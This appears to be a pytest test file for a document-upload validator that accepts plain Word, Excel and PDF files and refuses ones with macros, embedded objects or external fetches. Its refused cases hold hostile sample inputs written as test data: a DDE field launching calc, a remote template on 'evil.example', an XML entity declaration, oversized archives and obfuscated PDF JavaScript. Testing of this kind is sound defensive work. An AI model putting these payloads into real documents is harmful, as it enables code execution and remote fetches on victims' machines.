"""What stands inside a document: a program, another file, something it fetches; and links that may stay."""

import io
from time import monotonic

import pytest
from openpyxl import Workbook

from slf.files import portable, rules
from slf.files.office import CANNOT_BE_READ, FETCHES, INSERTED, MACROS
from slf.files.rules import WrongFile
from tests.slf.files.inside import excel, field, packed, related, with_objects_packed, word

TEMPLATE = "attachedTemplate"
WRITTEN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def refusal(content: bytes) -> str:
    with pytest.raises(WrongFile) as refused:
        rules.check_inside(content)
    return refused.value.message


def plain_book() -> bytes:
    made, book = io.BytesIO(), Workbook()
    book.active["A1"].hyperlink = "https://www.leicestershire.gov.uk/"
    book.save(made)
    return made.getvalue()


class TestADocumentThatMayBeKept:
    @pytest.mark.parametrize(
        "content",
        [
            pytest.param(word(), id="a plain one"),
            pytest.param(word(**related("hyperlink", "https://www.gov.uk/")), id="a link to press"),
            pytest.param(word(**related("image", "media/image1.png", outside=False)), id="a picture of its own"),
            pytest.param(word(**related(TEMPLATE, "file:///C:\\Users\\ann\\Letter.dotx")), id="begun with a template"),
            pytest.param(word(field(" PAGE ", "\\* MERGEFORMAT")), id="a number of the page"),
            pytest.param(plain_book(), id="a workbook"),
            pytest.param(with_objects_packed(b"<< /Type /Page >>"), id="a PDF with packed objects"),
        ],
    )
    def test_is(self, content):
        rules.check_inside(content)


class TestADocumentThatDoesMore:
    @pytest.mark.parametrize(
        ("content", "sentence"),
        [
            pytest.param(
                word(**related(TEMPLATE, "https://evil.example/a.dotm", where="word/_rels/settings.xml.rels")),
                FETCHES, id="a template elsewhere",
            ),
            pytest.param(word(**related(TEMPLATE, "file:////server/a.dotm")), FETCHES, id="one on a server"),
            pytest.param(word(**related("image", "https://evil.example/1.png")), FETCHES, id="a picture elsewhere"),
            pytest.param(word(**related("image", "//server/a.png", outside=False)), FETCHES, id="not said to be"),
            pytest.param(word(**related("frame", "a.htm")), FETCHES, id="a frame"),
            pytest.param(word(field("DDE", "AUTO c:\\\\windows\\\\calc")), FETCHES, id="a field in pieces"),
            pytest.param(word(field(' INCLUDETEXT "a" ')), FETCHES, id="words of another file"),
            pytest.param(word(**related("oleObject", "embeddings/1.bin", outside=False)), INSERTED, id="an object"),
            pytest.param(word(**{"word/embeddings/Sheet.xlsx": "x"}), INSERTED, id="a workbook within"),
            pytest.param(word(**related("aFChunk", "a.html", outside=False)), INSERTED, id="a page within"),
            pytest.param(word(**{"word/vbaProject.bin": "x"}), MACROS, id="a program"),
            pytest.param(
                word(types='<Types><Override ContentType="application/vnd.ms-word.macroEnabled+xml"/></Types>'),
                MACROS, id="one that says it has a program",
            ),
            pytest.param(excel(**{"xl/macrosheets/sheet1.xml": "<x/>"}), MACROS, id="a sheet of macros"),
            pytest.param(excel(**{"xl/externalLinks/externalLink1.xml": "<x/>"}), FETCHES, id="figures elsewhere"),
            pytest.param(excel(**{"xl/connections.xml": "<x/>"}), FETCHES, id="a database elsewhere"),
            pytest.param(excel(**{"xl/embeddings/oleObject1.bin": "x"}), INSERTED, id="an object in a workbook"),
            pytest.param(word("<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"), CANNOT_BE_READ, id="letters that stand for more"),
            pytest.param(word("<a>"), CANNOT_BE_READ, id="broken"),
            pytest.param(
                word(**{"other/document.xml": field("DDE", "AUTO calc")}), FETCHES, id="a field in another folder"
            ),
            pytest.param(
                word(types=f'<Types><Override PartName="/word/a.bin" ContentType="{WRITTEN}.main+xml"/></Types>'),
                CANNOT_BE_READ, id="words that are not named as such",
            ),
            pytest.param(packed(**{"word/document.xml": "<a/>", "a": "MZ"}), CANNOT_BE_READ, id="any archive"),
            pytest.param(word(f"<a>{'<b/>' * 1_500_000}</a>"), CANNOT_BE_READ, id="far too much of it"),
            pytest.param(word(types=f"<Types>{'<Default/>' * 100_001}</Types>"), CANNOT_BE_READ, id="too many kinds"),
            pytest.param(b"%PDF-1.7 << /Names << /EmbeddedFiles 1 0 R >> >>", portable.INSERTED, id="a file in a PDF"),
            pytest.param(b"%PDF-1.7 << /S /GoToR /F (//server/a.pdf) >>", portable.FETCHES, id="a PDF that opens one"),
            pytest.param(b"%PDF-1.7 << /S /J#61vaScript >>", portable.PROGRAM, id="a program spelled otherwise"),
            pytest.param(b"%PDF-1.7 << /XFA [(form) 5 0 R] >>", portable.PROGRAM, id="a form that runs what it says"),
            pytest.param(with_objects_packed(b"<< /S /JavaScript /JS (x) >>"), portable.PROGRAM, id="a packed program"),
            pytest.param(b"%PDF-1.7 1 0 obj << /Type /ObjStm >>", portable.CANNOT_BE_READ, id="cannot be unpacked"),
        ],
    )  # fmt: skip
    def test_is_refused_with_what_to_do(self, content, sentence):
        assert refusal(content) == sentence

    def test_is_looked_through_once_however_often_it_begins_an_object(self):
        began = monotonic()
        assert refusal(b"%PDF-1.7\n" + b"1 0 obj " * 300_000 + b"/ObjStm") == portable.CANNOT_BE_READ
        assert monotonic() - began < 20

    def test_of_openoffice_is_none_that_is_taken(self):
        other = packed(mimetype="application/vnd.oasis.opendocument.text", **{"content.xml": "<a/>"})
        with pytest.raises(WrongFile) as refused:
            rules.kind_of(other)
        assert refused.value.message == rules.NOT_ALLOWED
